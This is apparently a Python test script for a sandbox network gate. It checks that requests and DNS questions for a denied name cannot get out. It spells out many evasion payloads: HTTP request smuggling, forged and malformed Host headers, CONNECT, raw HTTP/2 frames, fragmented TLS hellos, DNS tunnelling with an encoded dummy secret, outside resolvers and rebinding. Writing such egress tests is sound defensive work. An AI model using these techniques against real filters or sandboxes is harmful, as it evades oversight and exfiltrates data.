#!/usr/bin/python3
"""net.py - names and protocols that say one thing and mean another

Expected: only what is asked of allowed.test, by its name, at its port, reaches the server outside,
which keeps a list; no request for denied.test, however it is dressed, and no DNS question for a name
that the policy does not allow. The runner reads that list afterwards. Lines of results are those
of attack.h.
"""
import os
import socket
import ssl
import struct
import sys
import time

ANSWER = b"WORLD-ANSWER"
conf = dict(line.rstrip("\n").split("=", 1) for line in open("outside.conf", encoding="utf-8") if "=" in line)
OPEN, TLS, CLOSED = int(conf["open_port"]), int(conf["tls_port"]), int(conf["closed_port"])
cases = []


def case(name, expect):
    def add(fn):
        cases.append((name, expect, fn))
        return fn
    return add


class Escaped(Exception):
    pass


class Broken(Exception):
    pass


def dial(name="allowed.test", port=None):
    try:
        s = socket.create_connection((name, port or OPEN), timeout=5)
    except OSError as e:
        if name == "allowed.test" and port != CLOSED:
            raise Broken("cannot connect to the allowed name: %s" % e) from e
        raise
    s.settimeout(3)
    return s


def read_all(s):
    got = b""
    try:
        while len(got) < 65536:
            piece = s.recv(4096)
            if not piece:
                break
            got += piece
    except OSError:
        pass
    return got


def exchange(*pieces, name="allowed.test", delay=0.0):
    """Send the pieces one after the other; what came back until the server closed or was silent."""
    s = dial(name)
    try:
        for piece in pieces:
            s.sendall(piece)
            if delay:
                time.sleep(delay)
        return read_all(s)
    except OSError:
        return b""
    finally:
        s.close()


def must_not_answer(got, path=b""):
    if ANSWER + (path and b" " + path) in got:
        raise Escaped("the server outside answered")
    return "%d bytes, not the server's" % len(got)


@case("control-http", "works")
def control():
    got = exchange(b"GET /fine HTTP/1.0\r\nHost: allowed.test:%d\r\n\r\n" % OPEN)
    if ANSWER not in got:
        raise Broken("the allowed name does not work: %r" % got[:80])
    return "allowed.test answers"


@case("control-tls", "works")
def control_tls():
    got = tls_get("allowed.test")
    if ANSWER not in got:
        raise Broken("TLS to the allowed name does not work: %r" % got[:80])
    return "allowed.test answers"


# ---- HTTP ----

LEAK = b"GET /leak HTTP/1.1\r\nHost: denied.test\r\n\r\n"


@case("http-other-host", "403 or closed")
def other_host():
    return must_not_answer(exchange(LEAK))


@case("http-other-host-on-allowed-ip", "closed")
def literal_address():
    address = socket.getaddrinfo("allowed.test", OPEN, socket.AF_INET)[0][4][0]
    return must_not_answer(exchange(LEAK, name=address))


@case("http-second-request", "403 or closed")
def second_request():
    s = dial()
    s.sendall(b"GET /first HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n" % OPEN)
    first = s.recv(4096)
    if ANSWER not in first:
        raise Broken("the first request failed: %r" % first[:60])
    try:
        s.sendall(LEAK)
        return must_not_answer(read_all(s))
    except OSError as e:
        return str(e)


@case("http-pipelined", "403 or closed")
def pipelined():
    good = b"GET /first HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n" % OPEN
    return must_not_answer(exchange(good + LEAK), b"/leak")


@case("http-head-in-pieces", "403 or closed")
def in_pieces():
    return must_not_answer(exchange(b"GET /leak HT", b"TP/1.1\r\nHo", b"st: den", b"ied.test\r\n", b"\r\n", delay=0.1))


def refused_heads(*heads):
    for head in heads:
        got = exchange(head)
        if ANSWER in got:
            raise Escaped("answered to %r" % head[:60])
    return "%d forms" % len(heads)


@case("http-absolute-form", "403 or closed")
def absolute_form():
    return refused_heads(b"GET http://denied.test/leak HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
                         b"GET http://denied.test/leak HTTP/1.1\r\nHost: denied.test\r\n\r\n",
                         b"GET http://allowed.test@denied.test/leak HTTP/1.1\r\nHost: allowed.test\r\n\r\n")


@case("http-two-hosts", "400, 403 or closed")
def two_hosts():
    return refused_heads(b"GET /leak HTTP/1.1\r\nHost: allowed.test\r\nHost: denied.test\r\n\r\n",
                         b"GET /leak HTTP/1.1\r\nHost: denied.test\r\nHost: allowed.test\r\n\r\n",
                         b"GET /leak HTTP/1.1\r\nHost: allowed.test, denied.test\r\n\r\n")


@case("http-odd-heads", "400, 403 or closed")
def odd_heads():
    return refused_heads(b"GET /leak HTTP/1.1\r\nHost:\r\n denied.test\r\n\r\n",
                         b"GET /leak HTTP/1.1\r\nHost : denied.test\r\n\r\n",
                         b"GET /leak HTTP/1.1\nHost: denied.test\n\n",
                         b"\r\n\r\nGET /leak HTTP/1.1\r\nHost: denied.test\r\n\r\n",
                         b"GET /leak HTTP/1.1\r\nhOsT:denied.test\r\n\r\n",
                         b"GET /leak HTTP/1.1\r\nHost: allowed.test\0.denied.test\r\n\r\n",
                         b"GET /leak HTTP/1.1\r\nHost: allowed.test@denied.test\r\n\r\n",
                         b"GET /leak HTTP/1.1\r\nHost: allowed.test.denied.test\r\n\r\n",
                         b"GET /leak HTTP/1.1\r\nX: y\rHost: denied.test\r\n\r\n",
                         b"get /leak HTTP/1.1\r\nHost: denied.test\r\n\r\n",
                         b"GET\t/leak\tHTTP/1.1\r\nHost: denied.test\r\n\r\n",
                         b"GET /leak HTTP/1.1\r\n" + b"X-Pad: " + b"a" * 70000 + b"\r\nHost: denied.test\r\n\r\n")


@case("http-connect", "403 or closed")
def connect_method():
    return refused_heads(b"CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n\r\n",
                         b"CONNECT denied.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")


@case("http-smuggling", "400 or closed")
def smuggling():
    return refused_heads(b"POST /smuggle HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\n"
                         b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + LEAK,
                         b"POST /smuggle HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n"
                         b"Content-Length: 44\r\n\r\n" + LEAK)


@case("http2-prior-knowledge", "refused, or its authority judged")
def http2():
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    settings = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
    # HPACK, literals without indexing: :method GET, :path /leak, :scheme http, :authority denied.test
    block = b"\x82\x86\x04\x05/leak\x01\x0bdenied.test"
    headers = struct.pack(">I", len(block))[1:] + b"\x01\x05" + struct.pack(">I", 1) + block
    return must_not_answer(exchange(preface + settings + headers))


# ---- TLS ----

def tls_context():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def tls_get(sni, host=None, name="allowed.test"):
    s = dial(name, TLS)
    try:
        w = tls_context().wrap_socket(s, server_hostname=sni)
        w.sendall(b"GET /leak HTTP/1.0\r\nHost: %s\r\n\r\n" % (host or sni or "none").encode())
        return read_all(w)
    except (OSError, ssl.SSLError):
        return b""
    finally:
        s.close()


def client_hello(sni):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        tls_context().wrap_bio(incoming, outgoing, server_hostname=sni).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


@case("tls-other-sni", "closed")
def other_sni():
    return must_not_answer(tls_get("denied.test"))


@case("tls-hello-in-pieces", "closed")
def hello_in_pieces():
    hello = client_hello("denied.test")
    s = dial("allowed.test", TLS)
    try:
        for i in range(0, len(hello), 40):
            s.sendall(hello[i:i + 40])
            time.sleep(0.02)
        got = s.recv(4096)
    except OSError:
        got = b""
    if got[:1] == b"\x16":
        raise Escaped("a ServerHello came back")
    return "no ServerHello"


@case("tls-hello-in-records", "closed")
def hello_in_records():
    hello = client_hello("denied.test")
    body, out = hello[5:], b""
    for i in range(0, len(body), 50):
        piece = body[i:i + 50]
        out += hello[:3] + struct.pack(">H", len(piece)) + piece
    s = dial("allowed.test", TLS)
    try:
        s.sendall(out)
        got = s.recv(4096)
    except OSError:
        got = b""
    if got[:1] == b"\x16":
        raise Escaped("a ServerHello came back")
    return "no ServerHello"


@case("tls-on-http-port", "closed")
def tls_other_port():
    hello = client_hello("denied.test")
    got = exchange(hello)
    return must_not_answer(got)


@case("plain-http-on-tls-port", "403 or closed")
def plain_on_tls():
    s = dial("allowed.test", TLS)
    s.sendall(LEAK)
    return must_not_answer(read_all(s))


# ---- DNS ----

def resolver():
    for line in open("/etc/resolv.conf", encoding="utf-8"):
        if line.startswith("nameserver"):
            return line.split()[1]
    raise Broken("no nameserver in /etc/resolv.conf")


def query(name, kind, server=None, port=53, tcp=False):
    labels = b"".join(bytes([len(x)]) + x for x in name.encode("latin-1").split(b".") if x)
    data = struct.pack(">HHHHHH", 4711, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    server = server or resolver()
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.connect((server, port))
        s.sendall((struct.pack(">H", len(data)) if tcp else b"") + data)
        got = s.recv(4096)
        if tcp:
            got = got[2:] if len(got) > 2 else s.recv(4096)
    except OSError as e:
        return None, 0, type(e).__name__
    finally:
        s.close()
    if len(got) < 12:
        return None, 0, "%d bytes" % len(got)
    return got[3] & 15, struct.unpack(">H", got[6:8])[0], "rcode %d" % (got[3] & 15)


def no_answer(*queries):
    said = ""
    for q in queries:
        rcode, answers, said = query(*q[:2], **(q[2] if len(q) > 2 else {}))
        if rcode == 0 and answers:
            raise Escaped("%s type %d was answered" % q[:2])
    return "%d questions, the last: %s" % (len(queries), said)


@case("control-dns", "works")
def control_dns():
    rcode, answers, said = query("allowed.test", 1)
    if rcode != 0 or not answers:
        raise Broken("allowed.test: %s" % said)
    return said


@case("dns-denied-name", "REFUSED")
def dns_denied():
    try:
        socket.getaddrinfo("denied.test", 80)
    except OSError:
        return no_answer(("denied.test", 1), ("denied.test", 28))
    raise Escaped("denied.test has an address")


@case("dns-tunnel", "never leaves")
def dns_tunnel():
    secret = "4e4f542d53454352455421" * 2
    return no_answer((secret + ".tunnel-one.test", 1), (secret + ".tunnel-two.test", 16),
                     (secret + ".denied.test", 28), ("a." * 60 + "tunnel-three.test", 16),
                     (secret + ".tunnel-four.test", 15), (secret + ".tunnel-five.test", 5),
                     (secret + ".tunnel-six.test", 33), (secret + ".tunnel-seven.test", 65))


@case("dns-tunnel-in-wildcard", "no upstream question before a connection")
def dns_wildcard():
    query("4e4f542d534543524554.wild.test", 16)
    query("4e4f542d534543524554.wild.test", 10)
    return "the runner reads the server's list"


@case("dns-other-server", "the gate answers, not that server")
def dns_other_server():
    return no_answer(("denied.test", 1, {"server": "9.9.9.9"}), ("denied.test", 1, {"server": "2620:fe::fe"}),
                     ("denied.test", 1, {"server": "9.9.9.9", "tcp": True}),
                     ("tunnel-direct.test", 1, {"server": conf["host_ip"]}),
                     ("denied.test", 1, {"server": conf["host_ip"], "port": int(conf["dns_port"])}),
                     ("denied.test", 1, {"server": "127.0.0.1", "port": int(conf["dns_port"])}),
                     ("denied.test", 1, {"server": "1.1.1.1", "port": 853, "tcp": True}))


@case("dns-over-tcp", "REFUSED")
def dns_tcp():
    return no_answer(("denied.test", 1, {"tcp": True}), ("tunnel-tcp.test", 16, {"tcp": True}))


@case("dns-odd-types", "NOTIMP or REFUSED")
def dns_odd():
    for kind in (255, 252, 251, 10, 249, 250, 41, 65535):
        query("tunnel-odd.test", kind)
    rcode, _, said = query("allowed.test", 1)
    if rcode != 0:
        raise Broken("the resolver does not answer any more: %s" % said)
    return "still answering"


@case("dns-malformed", "still answering")
def dns_malformed():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for data in (b"", b"\0", b"\xff" * 12, b"\0" * 12, b"\x12\x34\x01\x00\0\x01\0\0\0\0\0\0\xc0\x0c\0\x01\0\x01",
                 b"\x12\x34\x01\x00\xff\xff\0\0\0\0\0\0" + b"\x3f" + b"a" * 63 + b"\x3f",
                 b"\x12\x34\x01\x00\0\x01\0\0\0\0\0\0" + b"\x01a" * 2000, os.urandom(1200)):
        try:
            s.sendto(data, (resolver(), 53))
        except OSError:
            pass
    rcode, _, said = query("allowed.test", 1)
    if rcode != 0:
        raise Broken("the resolver does not answer any more: %s" % said)
    return "still answering"


@case("rebinding", "closed: a private address of the host")
def rebinding():
    try:
        s = dial("rebind.test")
        s.sendall(b"GET /leak HTTP/1.0\r\nHost: rebind.test\r\n\r\n")
        return must_not_answer(read_all(s))
    except OSError as e:
        return str(e)


@case("name-tricks", "no address")
def name_tricks():
    for name in ("denied.test.", "DENIED.test", "allowed.test.denied.test", "xallowed.test", "localhost.denied.test",
                 "wild.test", "allowed.testx", "allowed.test\\000.denied.test"):
        try:
            s = dial(name)
            s.sendall(LEAK)
            must_not_answer(read_all(s))
        except (OSError, UnicodeError):
            pass
    return "8 names"


@case("other-port", "closed")
def other_port():
    try:
        s = dial("allowed.test", CLOSED)
        s.sendall(b"GET /leak HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
        return must_not_answer(read_all(s))
    except OSError as e:
        return str(e)


def main():
    bad = 0
    for name, expect, fn in cases:
        if len(sys.argv) > 1 and name not in sys.argv[1:]:
            continue
        try:
            word, said = "BLOCKED", fn()
        except Escaped as e:
            word, said = "ESCAPED", e
        except Broken as e:
            word, said = "BROKEN", e
        except OSError as e:
            word, said = "BLOCKED", e
        bad += word != "BLOCKED"
        print("%s\t%s\t%s\t%s" % (word, name, expect, str(said).replace("\n", " ")), flush=True)
    return 1 if bad else 0


sys.exit(main())
